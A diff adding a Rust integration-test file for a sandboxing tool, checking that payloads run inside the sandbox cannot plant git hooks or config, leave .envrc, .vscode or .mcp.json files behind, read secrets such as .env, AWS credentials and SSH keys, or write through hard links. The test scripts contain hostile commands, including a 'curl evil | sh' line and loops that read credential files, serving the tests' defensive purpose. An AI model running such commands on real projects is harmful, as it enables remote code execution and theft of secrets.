@@ -1,0 +1,293 @@
+//! Attacks through the project tree: what a payload can read there, and
+//! what it can leave behind for the host to run or write through later.
+//! Each test performs the attack for real, as root and as an unprivileged
+//! user, and checks the host side after the run.
+
+mod support;
+
+use std::os::unix::fs::MetadataExt;
+
+use support::{assert_ok, identities, Project, Who};
+
+fn stdout(out: &std::process::Output) -> String {
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+fn stderr(out: &std::process::Output) -> String {
+    String::from_utf8_lossy(&out.stderr).into_owned()
+}
+
+/// Renaming `.git` out from under its read-only hooks, copying it back and
+/// planting a hook in the copy must not work: the ancestors are pinned.
+#[test]
+fn a_hook_cannot_be_planted_by_moving_git_around_its_protected_hooks() {
+    for who in identities("a_hook_cannot_be_planted_by_moving_git_around_its_protected_hooks") {
+        let project = Project::new(who);
+        project.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
+        project.write(".git/config", "[core]\n\tbare = false\n");
+        project.write("lib/.git/config", "[core]\n");
+        let script = r#"
+            mv .git .git-moved 2>/dev/null && echo MOVED-GIT
+            rm -rf .git 2>/dev/null; [ -d .git/hooks ] || echo REMOVED-GIT
+            mv .git/hooks .git/hooks-moved 2>/dev/null && echo MOVED-HOOKS
+            cp -a .git /tmp/copy && mkdir -p /tmp/copy/hooks && echo 'touch /tmp/pwned' > /tmp/copy/hooks/pre-commit
+            cp -a /tmp/copy/. .git/ 2>/dev/null && echo COPIED-BACK
+            echo '#!/bin/sh' > .git/hooks/pre-commit 2>/dev/null && echo PLANTED
+            printf '[core]\n\thooksPath = /tmp/evil\n' >> .git/config 2>/dev/null && echo CONFIG-WRITTEN
+            mv lib lib-moved 2>/dev/null && echo MOVED-LIB
+            echo '[core] fsmonitor = evil' > lib/.git/config 2>/dev/null && echo SUB-CONFIG-WRITTEN
+            echo checked
+        "#;
+        let out = project.sh_ok(script);
+        for forbidden in [
+            "MOVED-GIT",
+            "REMOVED-GIT",
+            "MOVED-HOOKS",
+            "PLANTED",
+            "CONFIG-WRITTEN",
+            "MOVED-LIB",
+            "SUB-CONFIG-WRITTEN",
+        ] {
+            assert!(!out.contains(forbidden), "{who:?}: {forbidden} in {out}");
+        }
+        let root = project.path();
+        assert!(!root.join(".git/hooks/pre-commit").exists(), "{who:?}");
+        assert!(!root.join(".git-moved").exists(), "{who:?}");
+        assert_eq!(
+            std::fs::read_to_string(root.join(".git/config")).unwrap(),
+            "[core]\n\tbare = false\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(root.join("lib/.git/config")).unwrap(),
+            "[core]\n"
+        );
+    }
+}
+
+/// Protected names that did not exist (no mount could cover them) and that
+/// the run creates are renamed out of use once the run is over; nothing is
+/// deleted, and the report lists them.
+#[test]
+fn protected_entries_a_run_creates_are_moved_out_of_use() {
+    for who in identities("protected_entries_a_run_creates_are_moved_out_of_use") {
+        let project = Project::new(who);
+        project.write("README", "hi\n");
+        let report = project.path().join("report.json");
+        let out = project.run_with(
+            &["--report", report.to_str().unwrap()],
+            &[
+                "/bin/sh",
+                "-c",
+                "echo 'curl evil | sh' > .envrc && mkdir -p .vscode deep/sub/.git/hooks && \
+                 echo '{\"tasks\": []}' > .vscode/tasks.json && \
+                 echo evil > deep/sub/.git/hooks/post-checkout && \
+                 echo 'gitdir: ../x' > deep/.git && echo '{}' > .mcp.json && echo ok > output.txt",
+            ],
+        );
+        assert_ok(&out, "planting protected names");
+        let root = project.path();
+        for planted in [
+            ".envrc",
+            ".vscode",
+            "deep/sub/.git/hooks",
+            "deep/.git",
+            ".mcp.json",
+        ] {
+            assert!(
+                !root.join(planted).exists(),
+                "{who:?}: {planted} left in place"
+            );
+            assert!(
+                stderr(&out).contains(&format!("protected entry {planted}")),
+                "{who:?}: {}",
+                stderr(&out)
+            );
+        }
+        let moved: Vec<String> = std::fs::read_dir(root)
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .filter(|n| n.starts_with(".envrc.sandbox-quarantine-"))
+            .collect();
+        assert_eq!(moved.len(), 1, "{who:?}: {moved:?}");
+        assert_eq!(
+            std::fs::read_to_string(root.join(&moved[0])).unwrap(),
+            "curl evil | sh\n",
+            "nothing is lost"
+        );
+        assert_eq!(
+            std::fs::read_to_string(root.join("output.txt")).unwrap(),
+            "ok\n"
+        );
+        let report: serde_json::Value =
+            serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
+        assert_eq!(
+            report["quarantined"].as_array().unwrap().len(),
+            5,
+            "{report}"
+        );
+    }
+}
+
+/// Secrets are hidden at any depth, including under a second hard-linked
+/// name; `.env.example` stays readable.
+#[test]
+fn secrets_are_hidden_at_any_depth() {
+    for who in identities("secrets_are_hidden_at_any_depth") {
+        let project = Project::new(who);
+        for secret in [
+            ".env",
+            "services/api/.env",
+            "services/api/.env.production",
+            ".aws/credentials",
+            "deploy/.ssh/id_ed25519",
+            "tls/server.key",
+            "tls/ca.pem",
+            "a/b/c/.netrc",
+        ] {
+            project.write(secret, "TOPSECRET\n");
+        }
+        project.write("services/api/.env.example", "KEY=placeholder\n");
+        std::fs::hard_link(
+            project.path().join(".env"),
+            project.path().join("innocent.txt"),
+        )
+        .unwrap();
+        let out = project.sh_ok(
+            "for f in .env services/api/.env services/api/.env.production .aws/credentials \
+             deploy/.ssh/id_ed25519 tls/server.key tls/ca.pem a/b/c/.netrc innocent.txt; do \
+             cat $f 2>/dev/null; done; cat services/api/.env.example; echo checked",
+        );
+        assert!(!out.contains("TOPSECRET"), "{who:?}: {out}");
+        assert!(out.contains("KEY=placeholder"), "{who:?}: {out}");
+    }
+}
+
+/// A file in the project hard-linked to a file outside it: writing,
+/// truncating or chmod-ing it in the sandbox must not change the outside file.
+#[test]
+fn a_hard_link_to_a_file_outside_cannot_be_written_through() {
+    for who in identities("a_hard_link_to_a_file_outside_cannot_be_written_through") {
+        let project = Project::new(who);
+        let outside = tempfile::Builder::new()
+            .prefix("sandbox-outside-")
+            .tempdir_in("/tmp")
+            .unwrap();
+        // Same filesystem as the project, so the link can exist.
+        let victim = outside.path().join("victim");
+        std::fs::write(&victim, "original\n").unwrap();
+        if who == Who::User {
+            std::os::unix::fs::chown(&victim, Some(support::TEST_UID), Some(support::TEST_GID))
+                .unwrap();
+        }
+        std::fs::hard_link(&victim, project.path().join("linked")).unwrap();
+        let mode_before = std::fs::metadata(&victim).unwrap().mode();
+        let out = project.sh_ok(
+            "echo evil >> linked 2>/dev/null && echo APPENDED; truncate -s 0 linked 2>/dev/null && echo TRUNCATED; \
+             chmod 777 linked 2>/dev/null && echo CHMODDED; cat linked; echo checked",
+        );
+        assert!(
+            out.contains("original"),
+            "{who:?}: the file stays readable: {out}"
+        );
+        for forbidden in ["APPENDED", "TRUNCATED", "CHMODDED"] {
+            assert!(!out.contains(forbidden), "{who:?}: {forbidden}: {out}");
+        }
+        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original\n");
+        assert_eq!(std::fs::metadata(&victim).unwrap().mode(), mode_before);
+
+        // A profile can refuse instead, naming the file and the fix.
+        let refused = project.run_with_profile(
+            "version = 1\nextends = \"strict\"\n[filesystem]\nhardlinks = \"refuse\"\n",
+            &[],
+            &["/bin/true"],
+        );
+        assert_eq!(refused.status.code(), Some(125), "{who:?}");
+        let err = stderr(&refused);
+        assert!(err.contains("linked") && err.contains("Fix:"), "{err}");
+    }
+}
+
+/// Started from a home directory without --project, a run refuses rather
+/// than make the whole home its writable project.
+#[test]
+fn a_home_directory_is_never_an_implicit_project() {
+    for who in identities("a_home_directory_is_never_an_implicit_project") {
+        let home = Project::new(who);
+        let mut cmd = home.command();
+        cmd.env("HOME", home.path())
+            .args(["run", "--", "/bin/true"])
+            .stdin(std::process::Stdio::null());
+        let out = cmd.output().unwrap();
+        assert_eq!(out.status.code(), Some(125), "{who:?}: {}", stderr(&out));
+        assert!(
+            stderr(&out).contains("is a home directory") && stderr(&out).contains("--project"),
+            "{}",
+            stderr(&out)
+        );
+        // Its parent contains it.
+        let mut cmd = home.command();
+        cmd.current_dir("/tmp")
+            .env("HOME", home.path())
+            .args(["run", "--", "/bin/true"])
+            .stdin(std::process::Stdio::null());
+        let out = cmd.output().unwrap();
+        assert_eq!(out.status.code(), Some(125), "{who:?}: {}", stderr(&out));
+        assert!(
+            stderr(&out).contains("contains the home directory"),
+            "{}",
+            stderr(&out)
+        );
+        // Named explicitly, it is the user's call.
+        let mut cmd = home.command();
+        cmd.env("HOME", home.path())
+            .args(["run", "--project"])
+            .arg(home.path())
+            .args(["--", "/bin/true"])
+            .stdin(std::process::Stdio::null());
+        let out = cmd.output().unwrap();
+        assert_ok(&out, "an explicit --project");
+        assert!(stdout(&out).is_empty());
+    }
+}
+
+/// When the supervisor is SIGKILLed mid-run, its janitor still moves what
+/// the run planted out of use once the run is gone.
+#[test]
+fn the_janitor_sweeps_when_the_supervisor_is_killed() {
+    if !support::require_root_sandbox("the_janitor_sweeps_when_the_supervisor_is_killed") {
+        return;
+    }
+    let project = Project::new(Who::Root);
+    project.write("README", "hi\n");
+    let mut child = project
+        .command()
+        .args([
+            "run",
+            "--",
+            "/bin/sh",
+            "-c",
+            "echo evil > .envrc; touch ready; sleep 60",
+        ])
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let ready = project.path().join("ready");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while !ready.exists() {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the payload never started"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    child.kill().unwrap();
+    child.wait().unwrap();
+    let envrc = project.path().join(".envrc");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while envrc.exists() && std::time::Instant::now() < deadline {
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    assert!(!envrc.exists(), "the janitor left .envrc in place");
+}
